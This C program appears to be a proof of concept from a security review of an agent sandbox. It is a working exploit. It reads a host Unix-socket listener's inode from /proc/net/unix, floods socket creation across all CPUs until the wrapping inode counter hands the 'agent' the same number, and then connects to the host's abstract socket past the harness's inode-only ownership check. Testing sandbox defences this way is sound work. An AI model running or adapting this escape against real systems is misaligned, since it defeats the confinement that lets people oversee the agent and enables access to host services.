/* ha22-inowrap.c (hostile review h-attack22): "held by the run" is decided
 * by inode number alone (unixdiag.c: readlink of /proc/PID/fd/N against
 * "socket:[INO]"), and so is in_our_netns (an exact sock_diag lookup by
 * inode with no cookie). A socket's inode number comes from get_next_ino(),
 * an unsigned int that wraps: after 2^32 inode allocations on the machine
 * (sockets, pipes, /proc entries, ...) a new socket of the agent can carry
 * the number of a host listener made long before. The agent reads the host
 * listener's number in /proc/net/unix (its network namespace is the
 * host's), allocates inode numbers until the counter comes round, then
 * makes sockets until one has that number, keeps it, and connects to the
 * host's abstract name: the dump finds the host's listener, the walk finds
 * "socket:[INO]" in the agent's table: "local", the act connects to the
 * host's listener.
 *
 *   ha22-inowrap @NAME [SECONDS]   with SECONDS: burn that long, print the
 *       rate and the time the whole wrap would take, stop.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static uint32_t target;
static _Atomic int found_fd = -1;
static _Atomic int stop;
static _Atomic unsigned long long burned;

static uint32_t ino_of(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 ? (uint32_t)st.st_ino : 0;
}

/* How far the counter still has to go to reach the target. */
static uint32_t distance(uint32_t now)
{
	return target - now;
}

static void *burner(void *arg)
{
	cpu_set_t set;
	int sv[2];

	CPU_ZERO(&set);
	CPU_SET((int)(intptr_t)arg, &set);
	sched_setaffinity(0, sizeof(set), &set);
	while (!atomic_load(&stop)) {
		if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, sv) != 0)
			continue;
		atomic_fetch_add(&burned, 2);
		/* Within a few batches of 1024 (get_next_ino's per-cpu
		 * batches): one by one, keeping the one with the number. */
		for (int i = 0; i < 2; i++) {
			if (ino_of(sv[i]) == target) {
				int want = -1;

				if (atomic_compare_exchange_strong(&found_fd, &want, sv[i])) {
					sv[i] = -1;
					atomic_store(&stop, 1);
				}
			}
			if (sv[i] >= 0)
				close(sv[i]);
		}
	}
	return NULL;
}

int main(int argc, char **argv)
{
	char line[512];
	FILE *f = fopen("/proc/net/unix", "r");
	int secs = argc > 2 ? atoi(argv[2]) : 0, ncpu = (int)sysconf(_SC_NPROCESSORS_ONLN);
	pthread_t t[64];
	struct timespec a, b;
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	int s, sv[2];

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc < 2 || argv[1][0] != '@' || !f)
		return 2;
	while (fgets(line, sizeof(line), f)) {
		char path[256] = "";
		unsigned long ino;

		/* Num RefCount Protocol Flags Type St Inode Path */
		if (sscanf(line, "%*s %*s %*s %*s %*s %*s %lu %255s", &ino, path) == 2 &&
		    strcmp(path, argv[1]) == 0)
			target = (uint32_t)ino;
	}
	fclose(f);
	if (!target) {
		printf("agent: %s not in /proc/net/unix\n", argv[1]);
		return 1;
	}
	socketpair(AF_UNIX, SOCK_DGRAM, 0, sv);
	printf("agent: host listener %s has inode %u; the counter is at %u: %u to go\n", argv[1],
	       target, ino_of(sv[0]), distance(ino_of(sv[0])));
	close(sv[0]);
	close(sv[1]);
	clock_gettime(CLOCK_MONOTONIC, &a);
	for (int i = 0; i < ncpu && i < 64; i++)
		pthread_create(&t[i], NULL, burner, (void *)(intptr_t)i);
	for (int k = 0; !atomic_load(&stop); k++) {
		sleep(1);
		if (secs && k + 1 >= secs)
			atomic_store(&stop, 1);
	}
	for (int i = 0; i < ncpu && i < 64; i++)
		pthread_join(t[i], NULL);
	clock_gettime(CLOCK_MONOTONIC, &b);
	{
		double el = (double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) / 1e9;
		double rate = (double)atomic_load(&burned) / el;

		printf("agent: %llu inode numbers in %.1f s: %.0f/s; a whole wrap (2^32) takes "
		       "%.1f h at this rate\n",
		       atomic_load(&burned), el, rate, 4294967296.0 / rate / 3600);
	}
	if (atomic_load(&found_fd) < 0)
		return 0;
	printf("agent: fd %d is socket:[%u], the host listener's number\n", atomic_load(&found_fd),
	       target);
	memcpy(sa.sun_path + 1, argv[1] + 1, strlen(argv[1] + 1));
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&sa,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(argv[1]))) != 0) {
		printf("agent: connect %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	dprintf(s, "HA22 through an inode number that came round\n");
	printf("agent: connected to %s\n", argv[1]);
	sleep(1);
	return 0;
}
